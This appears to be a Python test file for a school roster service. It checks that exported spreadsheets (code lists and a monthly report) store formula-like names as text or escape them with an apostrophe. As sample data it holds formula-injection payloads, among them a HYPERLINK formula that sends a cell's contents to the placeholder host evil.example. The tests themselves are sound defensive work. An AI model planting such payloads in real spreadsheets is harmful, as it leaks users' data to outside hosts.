"""Spreadsheets the service writes keep formula-like text as text (codes, monthly report)."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from tests.roster_files import EN_HEADER, write_csv
from tests.test_monthly import PERIODS, SEPT, _month
from xinqiao.clock import FakeClock
from xinqiao.services.codes import export_codes
from xinqiao.services.monthly.export import write_monthly_xlsx
from xinqiao.services.monthly.report import build_monthly
from xinqiao.services.roster import import_roster
from xinqiao.storage.db import Database
from xinqiao.storage.models import Klass

EVIL_NAME = '=HYPERLINK("http://evil.example/?c="&E3,"点我")'
EVIL = [EVIL_NAME, "+1+2", "-3+4", "@SUM(A1)"]  # the roster strips leading tabs and CRs


async def _roster(db: Database, clock: FakeClock, tmp_path: Path) -> None:
    rows = [EN_HEADER] + [
        [f"S{n:03d}", name, "student", "信息工程学院", "软件2301", "", "", ""]
        for n, name in enumerate(EVIL)
    ] + [["S100", "李明", "student", "信息工程学院", "软件2301", "", "", ""]]
    report = await import_roster(db, write_csv(tmp_path / "r.csv", rows), now=clock.now())
    assert report.errors == [] and report.created == len(EVIL) + 1


async def test_codes_xlsx_writes_formula_like_names_as_text(
    db: Database, clock: FakeClock, tmp_path: Path
) -> None:
    await _roster(db, clock, tmp_path)
    out = tmp_path / "codes.xlsx"
    await export_codes(db, out, now=clock.now())
    ws = load_workbook(out).worksheets[0]
    names = {row[3].value: row[3] for row in ws.iter_rows(min_row=2)}
    for name in EVIL:
        cell = names[name]  # the exact text, not a formula and not a computed value
        assert cell.data_type == "s", (name, cell.data_type)
    assert names["李明"].data_type == "s"


async def test_codes_csv_writes_formula_like_names_with_an_apostrophe(
    db: Database, clock: FakeClock, tmp_path: Path
) -> None:
    await _roster(db, clock, tmp_path)
    out = tmp_path / "codes.csv"
    await export_codes(db, out, now=clock.now())
    with out.open(encoding="utf-8-sig", newline="") as fh:
        names = [row[3] for row in list(csv.reader(fh))[1:]]
    assert sorted(names) == sorted(["'" + name for name in EVIL] + ["李明"])


async def test_monthly_report_writes_a_formula_like_class_name_as_text(
    db: Database, clock: FakeClock, tmp_path: Path
) -> None:
    campus = await _month(db, clock)
    async with db.session() as s:
        klass = await s.get(Klass, campus.klass_id)
        assert klass is not None
        klass.name = "=1+2"
        s.add(klass)
    async with db.session() as s:
        data = await build_monthly(s, campus.college_id, SEPT, PERIODS)
    out = tmp_path / "月报.xlsx"
    write_monthly_xlsx(data, out)
    ws = load_workbook(out)["班级周报完成情况"]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    evil = next(c for c in cells if c.value == "=1+2")
    assert evil.data_type == "s"


def test_tab_and_carriage_return_are_guarded_too(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from xinqiao.services.sheets import write_csv as write_safe_csv
    from xinqiao.services.sheets import xlsx_row

    values = ["\t=1+1", "\r=1+1", "ok", 3]
    out = tmp_path / "x.csv"
    write_safe_csv(out, ["a", "b", "c", "d"], [values])
    with out.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1] == ["'\t=1+1", "'\r=1+1", "ok", "3"]
    wb = Workbook()
    wb.active.append(xlsx_row(wb.active, values))
    wb.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
